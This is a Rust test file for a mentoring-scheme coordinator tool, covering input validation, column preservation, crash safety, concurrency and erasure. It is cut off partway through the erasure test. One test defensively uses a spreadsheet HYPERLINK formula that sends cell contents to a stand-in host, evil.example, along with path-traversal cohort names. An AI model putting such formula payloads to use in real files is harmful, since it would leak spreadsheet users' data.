//! Trust: the coordinator's files hold a scheme's whole history and special-category data. Bad input
//! is refused with its file, line, field and what is valid, and changes nothing; an unknown column
//! survives every rewrite; a crash at any write point leaves every file whole, old or new; readers
//! never see a half-written file; erasure leaves nothing of the person.
//!
//! Refusals that other files already test (participants.csv's encodings, quotes, ragged rows,
//! duplicate and renamed headers, `;` files, bad dates and ids; import files; `cohort.toml`; `init`'s
//! names, dates and cadences; unknown people in most commands) are not repeated here.

use std::fmt::Write as _;

use std::collections::BTreeMap;

use crate::harness::{TODAY, Workdir};

const ENROL_BO: &[&str] = &[
    "enrol",
    "c",
    "--role",
    "mentee",
    "--name",
    "Bo",
    "--email",
    "bo@x.example",
];

/// A cohort whose matching ignores briefings, with two leaders and two staff (traits declared).
fn small_cohort() -> Workdir {
    let w = Workdir::new();
    w.cohort();
    w.without_briefing_gate();
    for (role, name, dept, gender) in [
        ("mentee", "Lead One", "Exec", "Man"),
        ("mentee", "Lead Two", "Finance", "Woman"),
        ("mentor", "Staff One", "Labs", "Woman"),
        ("mentor", "Staff Two", "Estates", "Man"),
    ] {
        let email = format!("{}@x.example", name.to_lowercase().replace(' ', "."));
        w.enrol(
            role,
            name,
            &email,
            &["--department", dept, "--trait", &format!("gender={gender}")],
        );
    }
    w
}

/// `small_cohort` with its pairs confirmed and their one-to-ones planned.
fn scheduled_cohort() -> Workdir {
    let w = small_cohort();
    w.sh("match c").ok();
    w.sh("match c --confirm --yes").ok();
    w.sh("schedule c").ok();
    w
}

fn brief_b1(w: &Workdir) {
    w.sh("brief c add --date 2020-01-02 --audience all").ok();
}

/// A CSV file's header and rows, read with the csv crate (cells may hold quoted commas).
fn read_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut records = reader.records().map(|r| {
        r.expect("csv")
            .iter()
            .map(str::to_string)
            .collect::<Vec<_>>()
    });
    let header = records.next().expect("header");
    (header, records.collect())
}

fn write_csv(header: &[String], rows: &[Vec<String>]) -> String {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    writer.write_record(header).expect("write");
    for row in rows {
        writer.write_record(row).expect("write");
    }
    String::from_utf8(writer.into_inner().expect("flush")).expect("utf-8")
}

// ---------------------------------------------------------------------------------------------
// 1. Bad input
// ---------------------------------------------------------------------------------------------

/// Insert a column `name` at position `at` into a cohort file, each row's cell `note <row>`.
fn add_column(w: &Workdir, file: &str, at: usize, name: &str) {
    let (mut header, mut rows) = read_csv(&w.cohort_file("c", file));
    header.insert(at, name.to_string());
    for (i, row) in rows.iter_mut().enumerate() {
        row.insert(at, format!("note {i}, \"kept\""));
    }
    w.write_cohort_file("c", file, write_csv(&header, &rows));
}

/// Each row's cell in column `name`, keyed by the row's first `key` known cells.
fn column_by_key(w: &Workdir, file: &str, name: &str, key: usize) -> BTreeMap<String, String> {
    let (header, rows) = read_csv(&w.cohort_file("c", file));
    let at = header.iter().position(|h| h == name).expect("column kept");
    rows.iter()
        .map(|r| {
            let known: Vec<&str> = r
                .iter()
                .enumerate()
                .filter(|(i, _)| *i != at)
                .map(|(_, c)| c.as_str())
                .take(key)
                .collect();
            (known.join(","), r[at].clone())
        })
        .collect()
}

/// Add a column to `file`, run `args` (which rewrites it), and check the column kept its place, its
/// name and every old row's value, and that new rows have it empty.
fn column_survives(w: &Workdir, file: &str, at: usize, key: usize, args: &[&str]) {
    add_column(w, file, at, "Coordinator notes");
    let before = column_by_key(w, file, "Coordinator notes", key);
    assert!(!before.is_empty(), "{file} has rows to carry the column");
    let original = w.cohort_file("c", file);
    w.run(args).ok();
    let text = w.cohort_file("c", file);
    assert_ne!(text, original, "{args:?} did not rewrite {file}");
    let (header, _) = read_csv(&text);
    assert_eq!(header[at], "Coordinator notes", "{file}: {header:?}");
    let after = column_by_key(w, file, "Coordinator notes", key);
    for (k, v) in &after {
        match before.get(k) {
            Some(old) => assert_eq!(v, old, "{file} row {k} lost its note"),
            None => assert_eq!(v, "", "{file} new row {k}"),
        }
    }
    for k in before.keys() {
        if file != "matches.csv" {
            assert!(after.contains_key(k), "{file} lost row {k}");
        }
    }
}

#[test]
fn trust_an_unknown_column_in_participants_survives_withdraw() {
    let w = small_cohort();
    column_survives(
        &w,
        "participants.csv",
        3,
        1,
        &["withdraw", "c", "p001", "--reason", "moved", "--yes"],
    );
}

#[test]
fn trust_an_unknown_column_in_characteristics_survives_enrol() {
    let w = small_cohort();
    column_survives(
        &w,
        "characteristics.csv",
        2,
        1,
        &[
            "enrol",
            "c",
            "--role",
            "mentor",
            "--name",
            "New",
            "--email",
            "new@x.example",
            "--trait",
            "gender=Woman",
        ],
    );
}

#[test]
fn trust_an_unknown_column_in_briefings_and_attendance_survives_brief() {
    let w = small_cohort();
    brief_b1(&w);
    column_survives(
        &w,
        "briefings.csv",
        1,
        1,
        &[
            "brief",
            "c",
            "add",
            "--date",
            "2020-01-03",
            "--audience",
            "mentees",
        ],
    );
    w.sh("brief c attend b1 p001").ok();
    column_survives(
        &w,
        "attendance.csv",
        0,
        2,
        &["brief", "c", "attend", "b1", "p002"],
    );
}

#[test]
fn trust_an_unknown_column_in_matches_survives_confirm_and_rematch() {
    let w = small_cohort();
    w.sh("match c").ok();
    column_survives(
        &w,
        "matches.csv",
        4,
        2,
        &["match", "c", "--confirm", "--yes"],
    );
    // A withdrawal ends a confirmed pair; matching again adds new proposals beside the old rows.
    w.sh("withdraw c p003 --yes").ok();
    let before = column_by_key(&w, "matches.csv", "Coordinator notes", 2);
    w.sh("match c").ok();
    let after = column_by_key(&w, "matches.csv", "Coordinator notes", 2);
    for (k, v) in &before {
        assert_eq!(after.get(k), Some(v), "matches.csv row {k}");
    }
}

#[test]
fn trust_an_unknown_column_in_meetings_survives_log_and_schedule() {
    let w = scheduled_cohort();
    column_survives(
        &w,
        "meetings.csv",
        11,
        3,
        &["log", "c", "p001", "--held", "2020-01-06"],
    );
    let before = column_by_key(&w, "meetings.csv", "Coordinator notes", 3);
    w.sh_on("2020-03-02", "schedule c").ok();
    let after = column_by_key(&w, "meetings.csv", "Coordinator notes", 3);
    for (k, v) in &after {
        if let Some(old) = before.get(k) {
            assert_eq!(v, old, "meetings.csv row {k}");
        }
    }
}

#[test]
fn trust_duplicate_emails_differing_in_case_or_spaces_are_refused_against_the_cohort() {
    let w = Workdir::new();
    w.cohort();
    w.enrol("mentor", "Ann Lee", "ann@x.example", &[]);
    w.write("again.csv", "Name,Email\nAnn Again,  ANN@X.Example \n");
    w.refuses_sh(
        "enrol c --from again.csv --role mentor",
        1,
        &[
            "again.csv:2: ann@x.example is already enrolled as p001",
            "--update",
        ],
    );
    w.refuses(
        &[
            "enrol",
            "c",
            "--role",
            "mentee",
            "--name",
            "Ann",
            "--email",
            " Ann@x.EXAMPLE\t",
        ],
        1,
        &["ann@x.example is already enrolled as p001"],
    );
}

#[test]
fn trust_renamed_missing_and_duplicate_headers_in_other_files_are_refused() {
    let w = scheduled_cohort();
    brief_b1(&w);
    let meetings = w.cohort_file("c", "meetings.csv");
    w.write_cohort_file("c", "meetings.csv", meetings.replacen("status", "state", 1));
    w.refuses_sh(
        "due c",
        1,
        &[
            "meetings.csv:1",
            "no column \"status\"",
            "mentee, mentor, number",
        ],
    );
    w.write_cohort_file("c", "meetings.csv", &meetings);
    w.write_cohort_file("c", "attendance.csv", "briefing,person\n");
    w.refuses_sh(
        "brief c attend b1 p001",
        1,
        &["attendance.csv:1", "no column \"participant\""],
    );
    w.write_cohort_file("c", "attendance.csv", "briefing,participant,Participant\n");
    w.refuses_sh(
        "brief c attend b1 p001",
        1,
        &["attendance.csv:1", "\"Participant\" appears twice"],
    );
}

#[test]
fn trust_ragged_rows_and_bad_encodings_in_other_files_are_refused() {
    let w = scheduled_cohort();
    w.write_cohort_file("c", "attendance.csv", "briefing,participant\nb1\n");
    w.refuses_sh(
        "status c",
        1,
        &["attendance.csv:2", "1 cells but the header has 2"],
    );
    w.write_cohort_file("c", "attendance.csv", "briefing,participant\n");
    let mut latin1 = w.cohort_file("c", "matches.csv").into_bytes();
    latin1.extend_from_slice(b"p001,p004,0,caf\xE9,ended,2020-01-06,2020-01-06,2020-01-06,\n");
    w.write_cohort_file("c", "matches.csv", latin1);
    w.refuses_sh(
        "match c",
        1,
        &["matches.csv:4", "byte 0xE9 is not UTF-8", "CSV UTF-8"],
    );
}

#[test]
fn trust_empty_bom_only_utf16_and_tab_separated_imports_are_refused() {
    let w = Workdir::new();
    w.cohort();
    let import = |file: &'static str| ["enrol", "c", "--from", file, "--role", "mentor"];
    w.write("bom.csv", b"\xEF\xBB\xBF");
    w.refuses(&import("bom.csv"), 1, &["bom.csv", "empty"]);
    w.write("bomheader.csv", "\u{FEFF}Name,Email\r\n");
    w.refuses(&import("bomheader.csv"), 1, &["bomheader.csv", "no rows"]);
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(
        "Name,Email\r\nAnn,ann@x.example\r\n"
            .encode_utf16()
            .flat_map(u16::to_le_bytes),
    );
    w.write("unicode.csv", &utf16);
    w.refuses(
        &import("unicode.csv"),
        1,
        &["unicode.csv:1", "UTF-16", "CSV UTF-8"],
    );
    w.write("nobom.csv", &utf16[2..]);
    w.refuses(&import("nobom.csv"), 1, &["nobom.csv:1", "UTF-16"]);
    w.write("tabs.csv", "Name\tEmail\nAnn\tann@x.example\n");
    w.refuses(&import("tabs.csv"), 1, &["tabs.csv:1", "separated by tabs"]);
    w.write_cohort_file("c", "characteristics.csv", "");
    w.refuses(ENROL_BO, 1, &["characteristics.csv", "empty"]);
}

#[test]
fn trust_old_mac_line_ends_read_back() {
    let w = Workdir::new();
    w.cohort();
    w.write(
        "mac.csv",
        "Name,Email\rAnn Lee,ann@x.example\rBo Chan,bo@x.example\r",
    );
    w.sh("enrol c --from mac.csv --role mentor").ok();
    let text = w.cohort_file("c", "participants.csv");
    assert!(text.contains("p002,mentor,Bo Chan,bo@x.example,"), "{text}");
    w.write(
        "mac2.csv",
        "Name,Email\rCy,cy@x.example\r\"Di,di@x.example\r",
    );
    w.refuses_sh(
        "enrol c --from mac2.csv --role mentor",
        1,
        &["mac2.csv:3", "never closed"],
    );
}

#[test]
fn trust_impossible_and_ambiguous_dates_are_refused_everywhere() {
    let w = scheduled_cohort();
    w.refuses_sh(
        "brief c add --date 2020-02-30 --audience all",
        2,
        &["--date", "not a day in the calendar"],
    );
    w.refuses_sh(
        "log c p001 --held 03/04/2020",
        2,
        &["--held", "ambiguous", "YYYY-MM-DD"],
    );
    w.refuses_sh(
        "schedule c --from 2020-02-30",
        2,
        &["--from", "not a day in the calendar"],
    );
    w.write_cohort_file(
        "c",
        "briefings.csv",
        "id,date,audience,hours,title,kind\nb1,2020-02-30,all,3.5,Briefing,briefing\n",
    );
    w.refuses_sh(
        "brief c",
        1,
        &[
            "briefings.csv:2",
            "column \"date\"",
            "not a day in the calendar",
        ],
    );
    w.write_cohort_file(
        "c",
        "briefings.csv",
        "id,date,audience,hours,title,kind\nb1,03/04/2020,all,3.5,Briefing,briefing\n",
    );
    w.refuses_sh(
        "status c",
        1,
        &["briefings.csv:2", "column \"date\"", "ambiguous"],
    );
    w.write_cohort_file("c", "briefings.csv", "id,date,audience,hours,title,kind\n");
    let meetings = w.cohort_file("c", "meetings.csv");
    w.write_cohort_file(
        "c",
        "meetings.csv",
        // The first meeting's window opens on the cohort's start (2020-01-13), not on the
        // confirmation (2020-01-06), since issue 13.
        meetings.replacen("2020-01-13", "06/01/2020", 1),
    );
    w.refuses_sh(
        "due c",
        1,
        &["meetings.csv:2", "column \"due_from\"", "ambiguous"],
    );
}

#[test]
fn trust_cohort_toml_dates_cadences_and_closures_are_checked() {
    let w = Workdir::new();
    w.cohort();
    let good = w.cohort_file("c", "cohort.toml");
    type Edits<'a> = &'a [(&'a str, &'a str)];
    let cases: &[(Edits, &[&str])] = &[
        (
            &[("start = 2020-01-13", "start = 2020-02-30")],
            &["cohort.toml:6:"],
        ),
        (
            &[("end = 2020-07-31", "end = 2020-01-01")],
            &["end = 2020-01-01 is not after start = 2020-01-13"],
        ),
        (
            &[
                ("min_weeks = 6", "min_weeks = 9"),
                ("max_weeks = 8", "max_weeks = 6"),
            ],
            &["[cadence] min_weeks = 9 is more than max_weeks = 6"],
        ),
        (
            &[
                ("min_weeks = 6", "min_weeks = 0"),
                ("max_weeks = 8", "max_weeks = 0"),
            ],
            &["[cadence] min_weeks = 0", "at least 1 week"],
        ),
        (
            &[("min_weeks = 6", "min_weeks = -1")],
            &["cohort.toml:12:", "min_weeks"],
        ),
        (
            &[(
                "# [[calendar.closure]]\n# from = 2019-12-24\n# to = 2020-01-01",
                "[[calendar.closure]]\nfrom = 2020-01-01\nto = 2019-12-24",
            )],
            &["[[calendar.closure]] from = 2020-01-01 to = 2019-12-24"],
        ),
    ];
    for (edits, says) in cases {
        let mut text = good.clone();
        for (from, to) in *edits {
            assert!(text.contains(from), "{from}");
            text = text.replace(from, to);
        }
        w.write_cohort_file("c", "cohort.toml", text);
        w.refuses(ENROL_BO, 1, says);
        w.refuses_sh("status c", 1, says);
    }
}

#[test]
fn trust_a_formula_is_refused_at_entry_and_a_hand_typed_one_neutralised_in_csv_listings() {
    let w = small_cohort();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    // Every entry point refuses text a spreadsheet would run: flags (each field) and imports.
    for (flag, value) in [
        ("--name", formula),
        ("--name", "+44 Leader"),
        ("--name", "-Minus"),
        ("--department", "@SUM(1+1)"),
        ("--grade", "=1+1"),
    ] {
        let mut args = vec!["enrol", "c", "--role", "mentor", "--email", "f@x.example"];
        if flag != "--name" {
            args.extend(["--name", "Fay"]);
        }
        let given = format!("{flag}={value}");
        args.push(&given);
        w.refuses(
            &args,
            1,
            &["runs as a formula", "remove that first character"],
        );
    }
    w.write(
        "formula.csv",
        format!(
            "Name,Email\n\"{}\",g@x.example\n",
            formula.replace('"', "\"\"")
        ),
    );
    w.refuses_sh(
        "enrol c --from formula.csv --role mentor",
        1,
        &["formula.csv:2: name", "runs as a formula"],
    );
    // A formula typed into participants.csv by hand is kept as text...
    let mut people = w.cohort_file("c", "participants.csv");
    let _ = writeln!(
        people,
        "p005,mentor,\"{}\",f@x.example,@SUM(1+1),,,active,2020-01-06,,,,,",
        formula.replace('"', "\"\"")
    );
    people.push_str("p006,mentee,+44 Leader,lead3@x.example,-Ops,,,active,2020-01-06,,,,,\n");
    w.write_cohort_file("c", "participants.csv", &people);
    let name_in_file = |w: &Workdir| {
        let (header, rows) = read_csv(&w.cohort_file("c", "participants.csv"));
        let name = header.iter().position(|h| h == "name").expect("name");
        rows.iter()
            .find(|r| r[0] == "p005")
            .map(|r| (r[name].clone(), r[name + 2].clone()))
            .expect("p005")
    };
    // Round trip: another command rewrites participants.csv; the text is unchanged.
    w.enrol("mentee", "Lead Four", "lead4@x.example", &[]);
    assert_eq!(
        name_in_file(&w),
        (formula.to_string(), "@SUM(1+1)".to_string())
    );
    // ...and spreadsheet listings neutralise it, JSON keeps the text as it is.
    let csv = w
        .run(&["match", "c", "--dry-run", "--format", "csv"])
        .ok()
        .stdout;
    assert!(
        !csv.contains(",=") && !csv.contains(",\"=") && !csv.contains(",+"),
        "{csv}"
    );
    let (_, rows) = read_csv(&csv);
    let names: Vec<&str> = rows
        .iter()
        .flat_map(|r| [r[1].as_str(), r[3].as_str()])
        .collect();
    assert!(names.contains(&"'+44 Leader"), "{csv}");
    let json: serde_json::Value =
        serde_json::from_str(&w.sh("brief c --format json").ok().stdout).expect("json");
    assert!(
        json["not_briefed"].to_string().contains("=HYPERLINK"),
        "{json}"
    );
}

#[test]
fn trust_excel_mangled_ids_are_refused_in_every_file_that_holds_ids() {
    let w = scheduled_cohort();
    brief_b1(&w);
    w.sh("brief c attend b1 p001").ok();
    let cases = [
        (
            "attendance.csv",
            "b1,p001",
            "b1,1.0",
            "column \"participant\"",
        ),
        ("matches.csv", "\np001,", "\n1E+03,", "column \"mentee\""),
        (
            "meetings.csv",
            "\np001,p003,",
            "\np001,3.0,",
            "column \"mentor\"",
        ),
    ];
    for (file, from, to, column) in cases {
        let good = w.cohort_file("c", file);
        assert!(good.contains(from), "{file}: {good}");
        w.write_cohort_file("c", file, good.replacen(from, to, 1));
        w.refuses_sh(
            "status c",
            1,
            &[
                &format!("{file}:2"),
                column,
                "is a number",
                "restore the id",
            ],
        );
        w.write_cohort_file("c", file, good);
    }
}

#[test]
fn trust_unknown_people_are_refused_by_every_command_that_names_people() {
    let w = scheduled_cohort();
    w.refuses_sh(
        "match c --dry-run --avoid p001=nobody@x.example",
        1,
        &["--avoid", "no participant \"nobody@x.example\""],
    );
    w.refuses_sh(
        "schedule c --ics plan.ics --pair p404",
        1,
        &["no participant \"p404\"", "by id (like p001) or email"],
    );
    assert!(!w.path().join("plan.ics").exists());
    w.refuses_sh(
        "withdraw c NOBODY@x.example --yes",
        1,
        &["no participant \"NOBODY@x.example\""],
    );
}

#[test]
fn trust_an_erased_person_named_again_is_refused() {
    let w = scheduled_cohort();
    brief_b1(&w);
    w.sh("withdraw c p001 --erase --yes").ok();
    w.refuses_sh(
        "withdraw c p001 --erase --yes",
        1,
        &["p001 was erased on 2020-01-06"],
    );
    w.refuses_sh(
        "brief c attend b1 p001",
        1,
        &["nothing recorded for b1", "p001 was erased"],
    );
    w.refuses_sh(
        "log c p001 --held 2020-01-06",
        1,
        &["p001 (erased) has no confirmed pair"],
    );
    w.refuses_sh(
        "schedule c --ics p.ics --pair p001",
        1,
        &["p001 (erased) has no confirmed pair"],
    );
    w.refuses_sh(
        "match c --lock p001=p004",
        1,
        &["--lock p001=p004: p001 cannot be matched: erased"],
    );
    // The email is gone with the person: it names nobody now.
    w.refuses_sh(
        "withdraw c lead.one@x.example --yes",
        1,
        &["no participant \"lead.one@x.example\""],
    );
}

#[test]
fn trust_a_path_like_cohort_name_is_a_usage_error_for_every_command() {
    let w = scheduled_cohort();
    for name in ["../x", "a/b", ".", "..", "C", "", "/tmp/x"] {
        let commands: Vec<Vec<&str>> = vec![
            vec![
                "enrol",
                name,
                "--role",
                "mentor",
                "--name",
                "A",
                "--email",
                "a@x.example",
            ],
            vec!["enrol", name, "--from", "f.csv"],
            vec!["withdraw", name, "p001", "--yes"],
            vec!["brief", name],
            vec![
                "brief",
                name,
                "add",
                "--date",
                "2020-01-02",
                "--audience",
                "all",
            ],
            vec!["brief", name, "attend", "b1", "p001"],
            vec!["match", name],
            vec!["match", name, "--confirm", "--yes"],
            vec!["schedule", name],
            vec!["schedule", name, "--ics", "out.ics"],
            vec!["log", name, "p001", "--held", "2020-01-06"],
            vec!["due", name],
            vec!["status", name],
            vec!["init", name, "--start", "2020-01-13", "--end", "2020-07-31"],
        ];
        for args in commands {
            w.refuses(&args, 2, &["is not a cohort name", "like pilot-2020"]);
        }
    }
    assert!(!w.path().join("x").exists() && !w.path().join("out.ics").exists());
}

#[test]
fn trust_characteristics_of_an_unknown_id_are_refused_with_what_to_do() {
    let w = small_cohort();
    let traits = w.cohort_file("c", "characteristics.csv");
    w.write_cohort_file("c", "characteristics.csv", traits + "p009,Woman,,,,\n");
    for args in [&["match", "c"][..], ENROL_BO] {
        w.refuses(
            args,
            1,
            &[
                "characteristics.csv:6: id p009 has no row in participants.csv",
                "delete this row",
            ],
        );
    }
}

#[cfg(unix)]
#[test]
fn trust_a_cohort_folder_that_cannot_be_written_is_refused_and_nothing_changes() {
    use std::os::unix::fs::PermissionsExt;
    let w = small_cohort();
    let dir = w.root().join("c");
    let set = |mode| {
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(mode)).expect("chmod")
    };
    set(0o500);
    let probe = dir.join(".probe");
    if std::fs::write(&probe, b"").is_ok() {
        let _ = std::fs::remove_file(&probe);
        set(0o700);
        eprintln!(
            "note: trust_a_cohort_folder_that_cannot_be_written: skipped, this user can write in a read-only folder (root)"
        );
        return;
    }
    w.refuses(
        ENROL_BO,
        1,
        &["cannot write in", "writable", "Permission denied"],
    );
    w.refuses_sh(
        "withdraw c p001 --erase --yes",
        1,
        &["cannot write in", "Permission denied"],
    );
    set(0o700);
    w.enrol("mentee", "Bo", "bo@x.example", &[]);
}

// ---------------------------------------------------------------------------------------------
// 2. Crash safety
// ---------------------------------------------------------------------------------------------

/// Files the tool leaves only while a change is under way (or after a kill): staged copies, the
/// journal, and temporaries of older versions.
fn is_temporary(rel: &str) -> bool {
    rel.rsplit('/').next().is_some_and(|n| {
        n.starts_with(".revmentor-tmp-")
            || n.starts_with(".revmentor-stage-")
            || n.starts_with(".revmentor-journal")
    })
}

fn without_temporaries(snapshot: BTreeMap<String, Vec<u8>>) -> BTreeMap<String, Vec<u8>> {
    snapshot
        .into_iter()
        .filter(|(k, _)| !is_temporary(k))
        .collect()
}

/// The points of the commit protocol where a test can kill the process (`REVMENTOR_FAULT`).
const WRITE_POINTS: &[&str] = &[
    "staged",
    "before-commit",
    "committed",
    "between-renames",
    "before-journal-removed",
];

/// From the state `old`, run `args` once whole (the `new` state), then again killed at every write
/// point in turn. After each kill, the next reader sees the cohort whole: exactly old (killed
/// before the commit point) or exactly new (killed after it: the reader finishes the change); and
/// the next writer leaves no file of the protocol behind.
fn crash_at_every_write_point(w: &Workdir, args: &[&str]) {
    crash_at_every_write_point_on(w, crate::harness::TODAY, args);
}

/// [`crash_at_every_write_point`] with "today" pinned at `today`.
fn crash_at_every_write_point_on(w: &Workdir, today: &str, args: &[&str]) {
    let old = w.snapshot();
    w.run_on(today, args).ok();
    let new = without_temporaries(w.snapshot());
    assert_ne!(old, new, "{args:?} changed nothing");
    for point in WRITE_POINTS {
        let mut n = 1;
        loop {
            w.restore(&old);
            let mut cmd = w.command(args);
            cmd.env("REVMENTOR_TODAY", today)
                .env("REVMENTOR_FAULT", format!("{point}:{n}"));
            let run = w.run_cmd(cmd);
            if run.code == 0 {
                assert_eq!(
                    without_temporaries(w.snapshot()),
                    new,
                    "{args:?} {point}:{n}"
                );
                assert!(
                    n > 1 || *point == "between-renames",
                    "{args:?} never reached {point}"
                );
                break;
            }
            assert_eq!(
                run.code, -1,
                "{args:?} {point}:{n}: not killed: {}",
                run.stderr
            );
            // A reader of every file, characteristics included (`status` does not read them).
            let reader = w.sh("match c --dry-run --format json").ok();
            serde_json::from_str::<serde_json::Value>(&reader.stdout).expect("json");
            let after = without_temporaries(w.snapshot());
            let committed = !matches!(*point, "staged" | "before-commit");
            assert_eq!(
                after,
                if committed { new.clone() } else { old.clone() },
                "{args:?} {point}:{n}: the cohort is not whole"
            );
            // The next writer (whether or not it can go on) removes what the killed one left.
            w.sh("brief c add --date 2020-01-02 --audience all");
            assert!(
                !w.snapshot().keys().any(|k| is_temporary(k)),
                "{args:?} {point}:{n}: temporary file left"
            );
            n += 1;
            assert!(n < 50, "{args:?}: too many write points");
        }
    }
    w.restore(&new);
}

#[test]
fn trust_a_crash_at_any_write_point_leaves_every_file_old_or_new() {
    let w = small_cohort();
    crash_at_every_write_point(
        &w,
        &[
            "enrol",
            "c",
            "--role",
            "mentee",
            "--name",
            "New Lead",
            "--email",
            "new.lead@x.example",
            "--trait",
            "gender=Woman",
            "--trait",
            "ethnicity=Asian",
        ],
    );
    w.write(
        "more.csv",
        "Name,Email,Gender\nAl,al@x.example,Man\nBea,bea@x.example,Woman\n",
    );
    crash_at_every_write_point(
        &w,
        &["enrol", "c", "--from", "more.csv", "--role", "mentor"],
    );
    crash_at_every_write_point(&w, &["match", "c"]);
    crash_at_every_write_point(&w, &["match", "c", "--confirm", "--yes"]);
    crash_at_every_write_point(&w, &["schedule", "c"]);
    crash_at_every_write_point(&w, &["log", "c", "p001", "--held", "2020-01-06"]);
    w.write(
        "baseline.csv",
        "Email address,confidence_race,heard,Anything else?,May we quote you?\nlead.one@x.example,Agree,,Looking forward,Yes\nstaff.one@x.example,,2,,\n",
    );
    crash_at_every_write_point(
        &w,
        &[
            "survey",
            "c",
            "import",
            "baseline.csv",
            "--phase",
            "baseline",
        ],
    );
    crash_at_every_write_point(&w, &["withdraw", "c", "p002", "--reason", "left", "--yes"]);
    crash_at_every_write_point(&w, &["withdraw", "c", "p001", "--erase", "--yes"]);
    // A purge rewrites every table and cohort.toml in one commit.
    crash_at_every_write_point_on(&w, "2022-08-01", &["purge", "c", "--yes"]);
}

#[test]
fn trust_a_leftover_temporary_file_is_ignored_by_readers_and_removed_by_the_next_writer() {
    let w = small_cohort();
    // What a write killed before its rename leaves: a partial copy beside the real file.
    let partial = &w.cohort_file("c", "participants.csv")[..40];
    w.write_cohort_file("c", ".revmentor-tmp-Xy12Ab", partial);
    let before = w.sh("status c --format json").ok().stdout;
    assert!(before.contains("\"count\": 2"), "{before}");
    w.sh("due c").ok();
    assert!(
        w.root().join("c/.revmentor-tmp-Xy12Ab").exists(),
        "readers leave it"
    );
    w.enrol("mentee", "Bo", "bo@x.example", &[]);
    assert!(!w.root().join("c/.revmentor-tmp-Xy12Ab").exists());
}

// ---------------------------------------------------------------------------------------------
// 3. Concurrency
// ---------------------------------------------------------------------------------------------

#[test]
fn trust_a_reader_during_a_stream_of_writes_always_reads_whole_consistent_files() {
    let w = Workdir::new();
    w.cohort();
    let root = w.root();
    let reads = std::thread::scope(|scope| {
        let writer = scope.spawn(|| {
            for i in 0..24 {
                let run = w.run(&[
                    "enrol",
                    "c",
                    "--role",
                    if i % 2 == 0 { "mentor" } else { "mentee" },
                    "--name",
                    &format!("Person {i}"),
                    "--email",
                    &format!("person{i}@x.example"),
                    "--trait",
                    "gender=Woman",
                ]);
                assert_eq!(run.code, 0, "{}", run.stderr);
                if i % 6 == 5 {
                    let who = format!("person{}@x.example", i - 1);
                    w.run(&["withdraw", "c", &who, "--erase", "--yes"]).ok();
                }
            }
        });
        let mut reads = 0;
        while !writer.is_finished() {
            let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("revmentor"));
            cmd.arg("--root")
                .arg(&root)
                .args(["status", "c", "--format", "json"])
                .env("REVMENTOR_TODAY", TODAY);
            let out = cmd.output().expect("status");
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(out.status.success(), "a reader failed mid-write: {stderr}");
            let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("whole json");
            assert!(v["participants"].is_array());
            reads += 1;
        }
        writer.join().expect("writer");
        reads
    });
    assert!(reads > 3, "only {reads} reads");
    let people = w.cohort_file("c", "participants.csv").lines().count() - 1;
    assert_eq!(people, 24);
}

// ---------------------------------------------------------------------------------------------
// 5. Erasure (the scenario through the whole life of a pair)
// ---------------------------------------------------------------------------------------------

#[test]
fn trust_erasure_after_a_whole_pair_life_leaves_no_trace_and_counts_add_up() {
    let w = Workdir::new();
    w.cohort();
    // Quentin Xavier-Yarrow: a leader, manager of one mentor, named as another's conflict.
    w.enrol(
        "mentee",
        "Quentin Xavier-Yarrow",
        "Q.Xavier-Yarrow@Example.org",
        &[
            "--department",
            "Vice-Chancellor's Office",
            "--grade",
            "Exec 1",
            "--trait",
            "gender=Man",
            "--trait",
            "ethnicity=White Irish",
            "--trait",
            "disability=Yes",
        ],
    );
    w.enrol(
        "mentee",
        "Other Lead",
        "other@x.example",
        &["--department", "Finance"],
    );
    w.enrol(
        "mentor",
        "Ann Lee",
        "ann@x.example",
        &[
            "--department",
            "Chemistry",
            "--manager",
            "q.xavier-yarrow@example.org",
            "--trait",
            "gender=Woman",
        ],
    );
    w.enrol(
        "mentor",
        "Cy Dunn",
        "cy@x.example",
        &[
            "--department",
            "Library",
            "--conflict",
            "Q.XAVIER-YARROW@example.org",
        ],
    );
    w.enrol(
        "mentor",
        "Di Fox",
        "di@x.example",
        &["--department", "Estates", "--trait", "gender=Woman"],
    );
    brief_b1(&w);
    w.sh("brief c attend b1 p001 p002 p003 p004 p005").ok();
    // A coordinator's own columns, in participants.csv and meetings.csv.
    add_column(&w, "participants.csv", 13, "PA contact");
    let text = w
        .cohort_file("c", "participants.csv")
        .replacen("note 0,", "Quentin's PA,", 1);
    w.write_cohort_file("c", "participants.csv", text);
    w.sh("match c --lock p001=p005").ok();
    w.sh("match c --confirm --yes").ok();
    w.sh("schedule c").ok();
    add_column(&w, "attendance.csv", 2, "Dietary needs");
    add_column(&w, "meetings.csv", 11, "Room");
    for (file, note) in [
        ("attendance.csv", "Quentin: vegetarian,"),
        ("meetings.csv", "Xavier-Yarrow suite,"),
    ] {
        let text = w.cohort_file("c", file).replacen("note 0,", note, 1);
        w.write_cohort_file("c", file, text);
    }
    w.run_on(
        "2020-01-20",
        &[
            "log",
            "c",
            "p001",
            "--held",
            "2020-01-15",
            "--minutes",
            "55",
            "--topics",
            "sexism-and-racism",
        ],
    )
    .ok();
    w.run_on(
        "2020-03-10",
        &[
            "log",
            "c",
            "p001",
            "--cancelled",
            "2020-03-09",
            "--reason",
            "Quentin at a Xavier-Yarrow family event",
        ],
    )
    .ok();
    let status = |w: &Workdir| -> serde_json::Value {
        serde_json::from_str(&w.sh_on("2020-03-10", "status c --format json").ok().stdout)
            .expect("json")
    };
    let before = status(&w);
    let meetings_before = w.cohort_file("c", "meetings.csv").lines().count();
    let pairs_before = w.cohort_file("c", "matches.csv").lines().count();
    let traits_before = w.cohort_file("c", "characteristics.csv");
    assert!(traits_before.contains("White Irish"));

    w.run_on(
        "2020-03-10",
        &[
            "withdraw",
            "c",
            "q.xavier-yarrow@example.org",
            "--erase",
            "--reason",
            "Quentin asked",
            "--yes",
        ],
    )
    .ok();

    for (file, bytes) in w.snapshot() {
        let text = String::from_utf8_lossy(&bytes).to_lowercase();
        for needle in [
            "quentin",
            "xavier",
            "yarrow",
